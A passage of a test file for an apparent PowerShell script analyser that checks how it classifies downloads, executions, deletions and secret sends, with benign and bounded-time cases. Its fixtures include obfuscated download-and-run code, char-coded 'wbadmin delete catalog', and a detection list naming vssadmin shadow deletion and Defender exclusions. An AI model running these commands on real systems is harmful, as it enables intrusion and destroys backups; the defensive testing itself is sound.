    expect(of(c, "write").map((w) => [w.place, w.mode])).toEqual([["autostart", "copy"], ["shell-rc", "write"]]);
    expect(of(c, "delete")[0]?.scope).toBe("disk");
    expect(c.embedded.map((e) => e.kind)).toContain("shell");
  });

  it("a method taken as a value by a built name and then .Invoke()d is that method called", () => {
    const c = run("$wc = New-Object ('Net.' + 'Web' + 'Client')\n$body = $wc.('Download' + 'String').Invoke('https://m.invalid/s.ps1')\n$sb = [ScriptBlock]::Create($body)\n. $sb");
    expect(of(c, "exec").map((e) => e.fetched)).toContain("https://m.invalid/s.ps1");
  });

  it("a function call decodes its own arguments, and a foreach variable is the loop's item whatever else shares its name", () => {
    const c = run([
      "function From-Codes([int[]]$c) { -join ($c | ForEach-Object { [char]$_ }) }",
      "$s = Get-Date",
      "$steps = @( @{ exe = @(119,98,97,100,109,105,110); args = @(100,101,108,101,116,101,32,99,97,116,97,108,111,103) } )",
      "foreach ($s in $steps) { Start-Process -FilePath (From-Codes $s.exe) -ArgumentList (From-Codes $s.args) -Wait }",
      "Start-Process -FilePath (From-Codes @(110,111,116,101,112,97,100)) -ArgumentList 'readme.txt'",
    ].join("\n"));
    expect(of(c, "delete").map((d) => [d.path, d.scope])).toEqual([["wbadmin delete catalog", "backups"]]);
  });
});

describe("benign neighbours", () => {
  it("describes a Windows dev setup truthfully: package managers, PATH edits, vendor installers", () => {
    const c = run([
      "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
      "winget install --id Git.Git -e --accept-source-agreements",
      "choco install nodejs-lts -y",
      "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      "irm get.scoop.sh | iex",
      "scoop install ripgrep",
      "$env:PATH += \";$env:USERPROFILE\\.cargo\\bin\"",
      "[Environment]::SetEnvironmentVariable('Path', $env:Path + ';C:\\tools', 'User')",
      "npm install -g typescript",
    ].join("\n"));
    expect(of(c, "privilege")).toEqual([]);
    expect(of(c, "write")).toEqual([]);
    expect(of(c, "delete")).toEqual([]);
    expect(of(c, "exec").map((e) => [e.fetched, of(c, "fetch").find((f) => f.url === e.fetched)?.host])).toEqual([
      ["https://community.chocolatey.org/install.ps1", "community.chocolatey.org"],
      ["get.scoop.sh", "get.scoop.sh"],
    ]);
  });

  it("reads an API key from the environment to call its vendor (the send names both)", () => {
    const c = run("$headers = @{ 'x-api-key' = $env:ANTHROPIC_API_KEY; 'content-type' = 'application/json' }\n$body = @{ model = 'claude'; max_tokens = 10 } | ConvertTo-Json\nInvoke-RestMethod -Uri https://api.anthropic.com/v1/messages -Method Post -Headers $headers -Body $body");
    const send = of(c, "send")[0]!;
    expect(send.host).toBe("api.anthropic.com");
    expect(send.data?.taint.map((t) => [t.source, t.detail])).toEqual([["env-secret", "ANTHROPIC_API_KEY"]]);
    expect(of(c, "read")).toEqual([]);
  });

  it("states nothing for strings in data tables, help text and detection lists", () => {
    const c = run([
      "$patterns = @('iex (iwr http://evil.invalid)', 'Add-MpPreference -ExclusionPath', 'vssadmin delete shadows')",
      "Write-Host 'Run: irm https://example.invalid/install.ps1 | iex'",
      "$suspicious = Get-WinEvent -LogName 'Microsoft-Windows-PowerShell/Operational' | Where-Object { $_.Message -match 'DownloadString|EncodedCommand' }",
      "foreach ($p in $patterns) { if ($line -like \"*$p*\") { Write-Warning \"found $p\" } }",
    ].join("\n"));
    expect(c.facts.filter((f) => f.kind !== "read")).toEqual([]);
  });

  it("states ordinary build steps as plain writes and deletions of scratch folders", () => {
    const c = run([
      "Remove-Item -Recurse -Force '.\\bin', '.\\obj' -ErrorAction SilentlyContinue",
      "New-Item -ItemType Directory -Path dist -Force | Out-Null",
      "Get-ChildItem -Path src -Filter *.cs -Recurse | ForEach-Object { $_.FullName }",
      "dotnet build -c Release",
      "Copy-Item -Path .\\README.md -Destination dist\\",
      "Compress-Archive -Path dist\\* -DestinationPath release.zip",
    ].join("\n"));
    expect(of(c, "delete").map((d) => d.scope)).toEqual(["other", "other"]);
    expect(of(c, "write").map((w) => w.place)).toEqual([null]);
    expect(c.facts.filter((f) => ["exec", "send", "privilege", "read"].includes(f.kind))).toEqual([]);
  });

  it("reads -Switch:$false as off and paths built from folders as paths, not hiding", () => {
    const c = run("Remove-Item -Path $env:USERPROFILE -Recurse:$false\n$tools = Join-Path $PSScriptRoot 'bin'\n& ($tools + '\\fmt.exe') --check .");
    expect(of(c, "delete")).toEqual([]);
    expect(of(c, "obfuscation")).toEqual([]);
    expect(of(c, "exec")).toEqual([]);
  });

  it("parses module manifests without facts", () => {
    const c = run("@{\n  RootModule = 'Tools.psm1'\n  ModuleVersion = '1.0.0'\n  FunctionsToExport = @('Get-Thing')\n}", { path: "Tools.psd1" });
    expect(c.facts).toEqual([]);
  });
});

describe("bounds", () => {
  // The tree-sitter PowerShell parser itself reads assignment-heavy code at about 0.2 MB/s, so the
  // inputs stay small; what is bounded here is the evaluation (chains, self-references, unrolling).
  it("handles hostile inputs in bounded time", () => {
    const inputs = [
      "$a = 'x'\n" + Array.from({ length: 1000 }, (_, i) => `$a = $a + $a # ${i}`).join("\n") + "\niex $a",
      "(".repeat(2000) + "'x'" + ")".repeat(2000),
      Array.from({ length: 1000 }, (_, i) => `$v${i} = $v${i + 1} + 'a'`).join("\n") + "\niex $v0",
      "$s = ''\n" + "foreach ($c in 1..60000) { $s += [char]$c }\niex $s",
      Array.from({ length: 400 }, (_, i) => `function f${i}($p) { f${i + 1} $p; iex $p }`).join("\n") + "\nf0 'x'",
    ];
    for (const text of inputs) {
      const t0 = performance.now();
      run(text);
      expect(performance.now() - t0).toBeLessThan(3000);
    }
  });
});
